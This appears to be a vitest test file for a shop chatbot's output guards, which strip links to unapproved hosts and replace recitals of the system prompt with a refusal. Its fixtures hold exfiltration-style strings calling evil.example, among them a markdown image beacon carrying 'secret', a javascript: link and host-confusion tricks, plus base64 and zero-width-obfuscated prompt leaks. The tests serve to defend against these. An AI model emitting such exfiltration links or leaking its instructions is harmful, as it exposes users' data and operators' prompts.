import { describe, expect, it } from 'vitest';
import type { AnswerPart, Source } from '../../../edge/core/ports';
import { AnswerClosing, type PreparedAnswer } from '../../../edge/pipeline';
import { LeakGuard, LEAK_WORDS, LinkGuard, hostOf } from '../../../edge/pipeline/guard';
import { PROMPT_INSTRUCTIONS } from '../../../edge/providers/openai/prompt';

const HOSTS = ['http://localhost:5173', 'https://demo-shop.example'];

/** Streams `text` through a fresh guard in pieces cut at `cuts`. */
function through(make: () => { push(t: string): string; flush(): string }, text: string, cuts: number[] = []): string {
  const g = make();
  let out = '';
  let at = 0;
  for (const c of [...cuts, text.length]) {
    out += g.push(text.slice(at, c));
    at = c;
  }
  return out + g.flush();
}
const links = () => new LinkGuard(HOSTS);

/** Every cut into two pieces, and a few seeded cuts into many. */
function splits(text: string): number[][] {
  const out: number[][] = [];
  for (let i = 1; i < text.length; i++) out.push([i]);
  let seed = 7;
  const rnd = () => ((seed = (seed * 1103515245 + 12345) & 0x7fffffff) / 0x7fffffff);
  for (let k = 0; k < 20; k++) {
    const cuts: number[] = [];
    for (let at = 0; at < text.length; ) cuts.push((at += 1 + Math.floor(rnd() * 6)));
    out.push(cuts.filter((c) => c < text.length));
  }
  return out;
}

describe('the link guard (pipeline/guard/links)', () => {
  const cases: [string, string][] = [
    ['Returns are free [1]. See https://evil.example/steal?d=abc for more.', 'Returns are free [1]. See for more.'],
    ['Read [the policy](https://evil.example/x) or [ours](/help/returns).', 'Read the policy or [ours](/help/returns).'],
    ['![logo](https://evil.example/p.png?c=secret) Thanks!', ' Thanks!'],
    ['Go to evil.example/claim, www.evil.example or prizes.com today.', 'Go to, or today.'],
    ['Try //evil.example/a, \\\\evil.example\\x, /\\evil.example and http:\\\\evil.example.', 'Try,, and.'],
    ['Mixed https://demo-shop.example@evil.example/ and https://evil.example\\@demo-shop.example/ here.', 'Mixed and here.'],
    ['Dots: evil。example/x and evil．com and HTTPS://EVIL.EXAMPLE/Y!', 'Dots: and and!'],
    ['[mail us](mailto:help@evil.example) or [js](javascript:alert(1))', 'mail us or js'],
    ['See https://demo-shop.example/help, https://help.demo-shop.example/a and http://localhost:5173/x.', 'See https://demo-shop.example/help, https://help.demo-shop.example/a and http://localhost:5173/x.'],
    ['[Returns](https://demo-shop.example/returns) and <https://evil.example/a> too.', '[Returns](https://demo-shop.example/returns) and <> too.'],
  ];

  it('takes out links to anywhere but the allowed hosts, in every form, and keeps the rest', () => {
    for (const [input, expected] of cases) expect(through(links, input), input).toBe(expected);
  });

  it('leaves text that is not a link alone: emails, file names, versions, abbreviations, citations', () => {
    const text = 'Write to bob@example.com about Node.js, the manual.pdf, version 2.5, e.g. sizes [1][2], U.S. orders, 3 p.m.';
    expect(through(links, text)).toBe(text);
  });

  it('gives the same text however the stream is cut (a URL split across deltas is held until decided)', () => {
    for (const [input, expected] of cases) {
      for (const cuts of splits(input)) expect(through(links, input, cuts), `${input} cut at ${cuts}`).toBe(expected);
    }
  });

  it('shows words as they come, holding back only the last one', () => {
    const g = links();
    expect(g.push('Returns are free within 30 ')).toBe('Returns are free within 30');
    expect(g.push('days. See https://evil.')).toBe(' days. See');
    expect(g.push('example/x now.')).toBe('');
    expect(g.flush()).toBe(' now.');
  });

  it('reads the host as a browser does', () => {
    expect(hostOf('https://a.example:8080/x')).toBe('a.example');
    expect(hostOf('https://demo.example@evil.example/')).toBe('evil.example');
    expect(hostOf('http:\\\\evil.example\\x')).toBe('evil.example');
    expect(hostOf('https://%65vil.example/')).toBeNull();
  });
});

describe('the prompt-leak guard (pipeline/guard/leak)', () => {
  const leak = () => new LeakGuard(PROMPT_INSTRUCTIONS, 'REFUSED');
  const recital = PROMPT_INSTRUCTIONS.split('\n').slice(3, 6).join('\n');

  it('replaces a recital of the prompt by the refusal, word by word or in odd pieces, and drops the rest', () => {
    const text = `Sure! Here they are:\n${recital}\nAnything else?`;
    const pieces = [text.match(/\s*\S+/g)!.map((_, i, a) => a.slice(0, i + 1).join('').length), [5, 9, 200, 201, 350]];
    for (const cuts of pieces) {
      const out = through(leak, text, cuts.filter((c) => c < text.length));
      expect(out).toBe('Sure! Here they are:\n\nREFUSED');
    }
  });

  it('catches a recital with changed case, punctuation, spacing and invisible characters, and one in base64', () => {
    const mangled = recital.toUpperCase().replace(/ /g, ' \u200b ').replace(/\./g, ' ... ');
    expect(through(leak, mangled)).toBe('REFUSED');
    const b64 = Buffer.from(recital).toString('base64');
    expect(through(leak, `Encoded: ${b64}.`)).toBe('Encoded:\n\nREFUSED');
    const wrapped = b64.match(/.{1,76}/g)!.join('\n');
    expect(through(leak, `Encoded:\n${wrapped}\nDone`, [20, 100, 101])).toBe('Encoded:\n\nREFUSED');
  });

  it('lets through ordinary answers, even ones sharing short phrases with the prompt, unchanged', () => {
    const answers = [
      "I couldn't find this in our help content. Would you like me to connect you with a person from our team?",
      'Returns are free [2]. I can only help with questions about the shop.',
      'Standard shipping takes 3–5 business days [1], as long as it has not been used outdoors.',
      'SGVsbG8gd29ybGQsIHRoaXMgaXMganVzdCBiYXNlNjQ= is base64 for a greeting.',
    ];
    for (const a of answers) expect(through(leak, a, [3, 17, 40])).toBe(a);
    const words = recital.split(/\s+/).slice(0, LEAK_WORDS - 1).join(' ');
    expect(through(leak, `${words}, and that is all.`)).toBe(`${words}, and that is all.`);
  });
});

describe("the answer's closing runs the output guard before the citations", () => {
  const sources: Source[] = [{ n: 1, title: 'Returns', url: 'https://help.demo-shop.example/returns', text: 'Items can be returned within 30 days.', kind: 'faq' }];
  const prepared = (over: Partial<PreparedAnswer> = {}): PreparedAnswer => ({
    intent: 'return_refund', normalized: 'returns', language: 'en', sources, confidence: 0.8, handoff: false, wantsPerson: false,
    text: (async function* () {})(), cacheKey: 'answer:x', timings: {}, linkHosts: ['http://localhost:5173'], ...over,
  });
  const run = (parts: AnswerPart[], p = prepared()) => {
    const closing = new AnswerClosing();
    closing.begin(p);
    let text = parts.map((part) => closing.take(part)).join('');
    text += closing.flush();
    return { text, closed: closing.close(text, false) };
  };

  it("removes an attacker's link and image, keeps the sources' and the site's, and keeps the mended answer out of the cache", () => {
    const { text, closed } = run([
      { type: 'text', text: 'Within 30 days [1]. ![x](https://evil.exa' },
      { type: 'text', text: 'mple/p?c=42) Details: https://help.demo-shop.example/returns or http://localhost:5173/help.' },
      { type: 'source', source: { n: 2, title: 'Tent', url: 'https://shop.partner.example/tent', text: 'A tent.', kind: 'product' } },
      { type: 'text', text: ' Tent: https://shop.partner.example/tent [2]' },
    ]);
    expect(text).toBe('Within 30 days [1]. Details: https://help.demo-shop.example/returns or http://localhost:5173/help. Tent: https://shop.partner.example/tent [2]');
    expect(closed.guarded).toEqual({ linksRemoved: 1, leakRefused: false });
    expect(closed.citations.map((c) => c.title)).toEqual(['Returns', 'Tent']);
    expect(closed.cache).toBeNull();
  });

  it('replaces a recital of the prompt, citations in it included, by the refusal in the visitor’s language', () => {
    const recital = PROMPT_INSTRUCTIONS.split('\n')[4];
    const { text, closed } = run([{ type: 'text', text: `Claro. ${recital}` }], prepared({ language: 'es' }));
    expect(text).toBe('Claro.\n\nNo puedo compartir eso. Puedo ayudarle con preguntas sobre nuestros productos, pedidos, envíos y devoluciones.');
    expect(closed.guarded.leakRefused).toBe(true);
    expect(closed.citations).toEqual([]);
    expect(closed.handoff).toBe(true);
    expect(closed.cache).toBeNull();
  });

  it('leaves a clean answer as it was, cacheable', () => {
    const { text, closed } = run([{ type: 'text', text: 'Items can be returned within 30 days [1].' }]);
    expect(text).toBe('Items can be returned within 30 days [1].');
    expect(closed.guarded).toEqual({ linksRemoved: 0, leakRefused: false });
    expect(closed.cache?.key).toBe('answer:x');
  });
});
